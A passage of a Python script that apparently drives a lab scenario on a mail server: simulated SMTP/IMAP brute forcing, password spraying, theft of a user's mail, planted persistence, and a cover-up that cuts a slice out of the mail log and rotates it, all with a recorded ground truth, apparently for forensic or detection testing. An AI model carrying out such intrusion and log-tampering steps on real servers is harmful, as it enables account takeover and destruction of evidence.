    log("initial access"); smtp_brute_force(truth); spray(); imap_brute_force(); save()
    log("abuse"); abuse(truth); save()
    if MTA == "postfix":
        log("theft of carol's mail"); theft(truth); save()
    if chroot_lab():
        path = list(bursts())[0]
        log(f"inbound burst for the receivers, delivered by {MTA}'s {path}")
        burst(path)
    else:
        log("inbound burst for the receivers, delivered by dovecot-lda with Sieve")
        burst("dovecot-lda+sieve")
    log("persistence")
    truth["persistence"] = json.loads(root_step(scenario, out, "plant"))
    time.sleep(2)
    mail_the_victims("1")
    if chroot_lab():
        relay_through_planted_net(truth)
    else:
        paul_at_the_office(truth, 1, gap=0)  # another of his ordinary sessions
    save()
    # The slice the intruder will cut: CONTEXT_MINUTES of traffic before it, its own checks
    # inside it, CONTEXT_MINUTES after it.
    until(t0, CONTEXT_MINUTES * 60 + 10)
    cut_from = now_utc()
    log("the slice to be cut starts")
    mail_the_victims("2")
    m = Imap(ABUSE_IP)
    m.login("carol", password("carol"))
    m.logout()
    time.sleep(GAP_MINUTES * 60 + 20)
    cut_to = now_utc()
    truth["cut"] = {"from": iso(cut_from), "to": iso(cut_to)}
    save()
    t_after = time.monotonic()
    if not chroot_lab():
        log("context after the slice; Postfix now delivers by LMTP")
        root_step(scenario, out, "lmtp")
        time.sleep(2)
        burst("lmtp")
        # After the cut (so the cleanup phase still starts with it): the intruder back to
        # delete carol's mail; then paul's new phone, an owner's download that is not theft.
        log("cover-up in carol's mailbox; paul's new phone")
        cover_up(truth)
        time.sleep(3)
        new_phone(truth)
        save()
    else:
        log("context after the slice")
    until(t_after, CONTEXT_MINUTES * 60 + 10)
    log("cleanup: cutting the slice out of the log, then rotating it")
    root_step(scenario, out, "cut", local_prefix(cut_from), local_prefix(cut_to))
    time.sleep(3)
    root_step(scenario, out, "rotate")
    if chroot_lab():
        truth["rotated"].append(iso(now_utc()))
    time.sleep(12)
    legit.stop.set()
    legit.join()
    truth["legit"]["messages"] = legit.sent
    truth["ended"] = iso(now_utc())
    time.sleep(2)  # let the last deliveries be logged
    save()
    log(f"done: {legit.sent} legitimate messages alongside")


def main():
    p = argparse.ArgumentParser()
    p.add_argument("--password")
    p.add_argument("--out")
    p.add_argument("--scenario")
    p.add_argument("--mta", choices=["postfix", "exim", "sendmail"], default="postfix")
    a = p.parse_args()
    global MTA
    MTA = a.mta
    if a.password:
        print(password(a.password))
        return
    run(a.out, a.scenario)


if __name__ == "__main__":
    main()
